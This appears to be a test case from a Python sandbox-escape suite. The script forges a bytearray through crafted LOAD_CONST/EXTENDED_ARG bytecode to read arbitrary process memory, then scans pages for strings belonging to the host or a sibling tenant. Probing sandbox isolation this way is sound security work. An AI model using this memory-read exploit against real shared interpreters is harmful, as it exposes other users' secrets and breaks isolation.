# expect: done | crash | error SystemError | error ValueError | error TypeError
# idea: read the process's memory page by page with a forged bytearray, and look for what belongs to the host or a sibling
# source: pwning-python
# timeout: 20
import re


def word(number):
    return number.to_bytes(8, "little")


def window(address):
    """A bytearray over a page at *address*, made of a constant that is none."""
    head = type(b"").__basicsize__ - 1
    forged = word(1 << 20) + word(id(print.__self__.bytearray)) + word(4096) * 2 + word(address) * 2 + word(0)
    pointer = word(id(forged) + head)
    kept.append((forged, pointer))
    index = (id(pointer) + head - id(code.co_consts) - tuple.__basicsize__) // 8
    if not -(2**31) < index < 2**31:
        return b""
    parts = (index % 2**32).to_bytes(4, "big")
    body = type(b"")([extended, parts[0], extended, parts[1], extended, parts[2], load, parts[3]])
    return type(window)(code.replace(co_code=code.co_code[:2] + body + wide[-2:]), {})()


kept = []
wide = print.__self__.compile("x" + "".join(f" + 'c{n}'" for n in range(310)), "many", "eval").co_code
place = next(n for n in range(0, len(wide), 2) if wide[n + 1] == 1 and wide[n + 3] == 43)
extended, load = wide[place], wide[place + 2]
code = (lambda: None).__code__.replace(co_consts=(None, "x"))


def tick(ctx):
    gc = print.__self__.__import__("gc")
    gc.unfreeze()
    planted = ["planted-%024x" % number for number in range(100)]
    pages = sorted({id(thing) // 4096 for thing in [*gc.get_objects(), *planted]})
    found = set()
    for page in pages[-8000:]:
        found.update(re.findall(rb"(?:planted|neighbour|environment|host-memory|state|file)-[0-9a-f]{24}", window(page * 4096)))
    others = [text for text in found if not text.startswith(b"planted")]
    print("read", len(pages), "pages and found", len(found) - len(others), "texts of our own")
    print("ESCAPED: found" if others else "nothing of others", others)
